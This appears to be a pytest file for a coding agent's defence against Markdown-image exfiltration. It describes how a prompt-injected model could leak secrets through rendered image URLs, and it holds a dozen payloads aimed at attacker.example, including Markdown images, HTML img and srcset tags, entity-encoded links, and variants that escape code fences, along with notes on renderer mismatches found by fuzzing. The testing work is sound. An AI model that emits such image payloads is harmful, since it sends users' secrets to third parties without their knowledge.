"""No remote image reaches the editor: an editor renders the agent's text as Markdown and loads the
images in it, so `![x](https://attacker.example/c?d=SECRET)` written by a model under a prompt
injection would send SECRET with no tool call. Driven through `loopwright acp` with the SDK's
client side and the fake model server; each rendered output is checked with a CommonMark
renderer (HTML on), as an editor would read it."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from acp import text_block
from editor_client import EditorClient, acp_agent, text_of
from markdown_it import MarkdownIt

from loopwright.testing import FakeModelServer, Reply, call

ATTACKS = "\n".join([
    "Done. ![status](https://attacker.example/c?d=SECRET) and",
    '<img src="https://attacker.example/i?d=SECRET" alt="x">',
    "an address with entities: ![a](h&#116;tps://attacker.example/e?d=SECRET)",
    "protocol-relative: ![b](//attacker.example/p?d=SECRET),",
    "angle: ![c](<https://attacker.example/a?d=SECRET>)",
    "srcset: <img srcset=\"a.png 1x, https://attacker.example/s?d=SECRET 2x\">",
    "a label with code: ![a`](x.png)`](https://attacker.example/k?d=SECRET)",
    "reference: ![r][ref] and shortcut ![ref]",
    "",
    "[ref]: https://attacker.example/r?d=SECRET",
    "",
    "<pre>an escape is none in raw HTML</pre>\\<img src=https://attacker.example/b?d=SECRET>",
    "",
    "<a title='<img src=\"https://attacker.example/q?d=SECRET\">",
    "",
    "- a list item's fence ends with the item, and the fence after it is a new one",
    "  ```",
    "  code",
    "```",
    "code",
    "```",
    "![l](https://attacker.example/l?d=SECRET)",
])
ORDINARY = "\n".join([
    "Here is the fix, see [the docs](https://docs.python.org/3/library/re.html?highlight=x)",
    "or <https://example.org/page?q=1>, and a local picture ![diagram](docs/chat.png).",
    "",
    "```markdown",
    "![badge](docs/badge.svg)",
    '<img src="docs/chat.png" alt="a local one">',
    "```",
    "",
    "~~~",
    "![x](x.png) <b>bold</b>",
    "~~~",
    "",
    "Escaped: \\![not an image](https://example.org) and 3 < 4 > 2, **bold** `code`!",
    "",
    "1. In a list:",
    "   ```sh",
    "   echo '![x](a.png)'",
    "   ```",
    "2. Done.",
])


class _Loads(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.addresses += [value for name, value in attrs
                           if name in ("src", "srcset") and value
                           and re.search(r"(?:^|[\s,])(?:[a-z]+:)?//", value)]


def remote_images(markdown: str) -> list[str]:
    """The addresses of the images a CommonMark renderer with HTML on would load."""
    loads = _Loads()
    loads.feed(MarkdownIt("commonmark", {"html": True}).render(markdown))
    return loads.addresses


def test_the_attacks_are_images_a_renderer_would_load() -> None:
    # the oracle itself: every line of ATTACKS loads SECRET when rendered as written
    assert len([a for a in remote_images(ATTACKS) if "SECRET" in a]) == 12
    assert remote_images(ORDINARY) == []


@pytest.mark.parametrize("chunk_size", [1, 3, 8, 4096])
async def test_a_remote_image_in_the_reply_is_not_sent(tmp_path: Path, chunk_size: int) -> None:
    client = EditorClient()
    with FakeModelServer([Reply(ATTACKS, chunk_size=chunk_size),
                          Reply(ORDINARY, chunk_size=chunk_size)]) as server:
        async with acp_agent(client, server, tmp_path) as conn:
            session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
            await conn.prompt(session_id=session, prompt=[text_block("summarise the page")])
            shown = text_of(client)
            assert remote_images(shown) == []
            assert "(image from attacker.example not loaded: status)" in shown
            assert shown.startswith("Done. ") and "[ref]: https://attacker.example" in shown

            client.updates.clear()  # code blocks, links and escapes are not touched
            await conn.prompt(session_id=session, prompt=[text_block("and now?")])
            assert text_of(client) == ORDINARY


async def test_a_remote_image_in_fenced_code_is_not_sent_either(tmp_path: Path) -> None:
    """Fenced code was passed as written; where a renderer tells the blocks around it apart
    otherwise than loopwright (nested lists, block quotes around a fence: the fuzzing found
    a few such leaks in 30,000 cases), the line is read as prose and its image loads."""
    reply = "\n".join(["> - item", ">   ```", "![c](https://attacker.example/c?d=SECRET)",
                       ">   ```", "", "```md", "![d](https://attacker.example/d?d=SECRET)",
                       "![local](d.png)", "```"])
    client = EditorClient()
    with FakeModelServer([Reply(reply, chunk_size=3)]) as server:
        async with acp_agent(client, server, tmp_path) as conn:
            session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
            await conn.prompt(session_id=session, prompt=[text_block("show the snippet")])
    shown = text_of(client)
    assert "SECRET" not in shown and "(image from attacker.example not loaded: d)" in shown
    assert "![local](d.png)" in shown


async def test_an_image_from_an_allowed_host_is_kept(tmp_path: Path) -> None:
    reply = ("![chart](https://images.ok.example/c.png) and "
             '<img src="https://images.ok.example/d.png"> but not '
             "![x](https://attacker.example/c?d=SECRET) nor "
             "![y](https://ok.example.attacker.example/)")
    client = EditorClient()
    with FakeModelServer([Reply(reply, chunk_size=5)]) as server:
        async with acp_agent(client, server, tmp_path,
                             LOOPWRIGHT_EGRESS_ALLOW="*.ok.example") as conn:
            session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
            await conn.prompt(session_id=session, prompt=[text_block("chart it")])
    assert remote_images(text_of(client)) == ["https://images.ok.example/c.png",
                                              "https://images.ok.example/d.png"]


def shown_text(update: Any) -> str:
    """Every text of an update an editor renders as Markdown."""
    parts = [getattr(update, "title", None) or ""]
    content = getattr(update, "content", None)
    for part in content if isinstance(content, list) else [content]:
        block = getattr(part, "content", part)
        parts.append(getattr(block, "text", "") or "")
    parts += [entry.content for entry in getattr(update, "entries", None) or []]
    return "\n\n".join(parts)


async def test_thoughts_tool_results_titles_plans_questions_and_replays(tmp_path: Path) -> None:
    image = "![x](https://attacker.example/c?d=SECRET)"
    (tmp_path / "page.md").write_text(f"# Read me\n\n{image}\n")
    script = [
        Reply(reasoning=f"I will show {image} to the user", chunk_size=3,
              tool_calls=[call("read_file", {"path": "page.md"})]),
        Reply(tool_calls=[call("todo", {"todos": [{"id": "1", "content": f"show {image}",
                                                   "status": "pending"}]})]),
        Reply(tool_calls=[call("write_file", {"path": f"{image}.md", "content": image})]),
        Reply("All done."),
    ]
    client = EditorClient(answers=["reject"])
    with FakeModelServer(script) as server:
        async with acp_agent(client, server, tmp_path) as conn:
            session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
            await conn.prompt(session_id=session, prompt=[text_block("read page.md")])
            kinds = {"agent_thought_chunk", "tool_call", "tool_call_update", "plan"}
            assert kinds <= set(client.kinds())
            thought = "".join(u.content.text for u in client.of("agent_thought_chunk"))
            assert "I will show (image from attacker.example not loaded: x)" in thought
            read = client.of("tool_call_update")[0]
            assert "# Read me" in read.raw_output and remote_images(read.raw_output) == []
            (question, _options), = client.questions
            for update in [*client.updates, question]:
                assert remote_images(shown_text(update)) == [], update

            client.updates.clear()
            await conn.load_session(cwd=str(tmp_path), session_id=session, mcp_servers=[])
            replayed = [shown_text(u) for u in client.updates]
            assert any("not loaded" in text for text in replayed)
            assert all(remote_images(text) == [] for text in replayed)


async def test_prose_is_not_held_back(tmp_path: Path) -> None:
    # only the start of an image or tag, or a line's first few characters, waits for more
    prose = ("The tests pass now! I changed the parser so that a < b holds, and the cache is "
             "cleared on every reload; nothing else moved.\n\nNext, the docs.")
    client = EditorClient()
    with FakeModelServer([Reply(prose, chunk_size=4)]) as server:
        async with acp_agent(client, server, tmp_path) as conn:
            session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
            await conn.prompt(session_id=session, prompt=[text_block("status?")])
    chunks = [u.content.text for u in client.of("agent_message_chunk")]
    assert "".join(chunks) == prose
    assert len(chunks) >= len(prose) // 4 - 6


async def test_a_tool_calls_raw_input_is_made_inert_when_text_and_sent_as_is_when_json(
        tmp_path: Path) -> None:
    """Zed renders a tool call's `raw_input` when the user expands the call: a JSON string as
    Markdown, anything else as pretty JSON in a ```json fence (agent_ui's thread view,
    `markdown_for_raw_output`; docs/editors.md). Arguments that do not parse reach the editor
    as text, so they are made inert; parsed arguments go as the model wrote them."""
    image = "![x](https://attacker.example/c?d=SECRET)"
    script = [Reply(tool_calls=[call("read_file", f"{image} is not JSON")]),
              Reply(tool_calls=[call("read_file", {"path": image})]), Reply("done")]
    client = EditorClient()
    with FakeModelServer(script) as server:
        async with acp_agent(client, server, tmp_path) as conn:
            session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
            await conn.prompt(session_id=session, prompt=[text_block("read it")])
    unparsed, parsed = [u.raw_input for u in client.of("tool_call")]
    assert isinstance(unparsed, str) and remote_images(unparsed) == []
    assert unparsed == "(image from attacker.example not loaded: x) is not JSON"
    assert isinstance(parsed, dict) and parsed["path"] == image  # fenced by Zed: not rendered
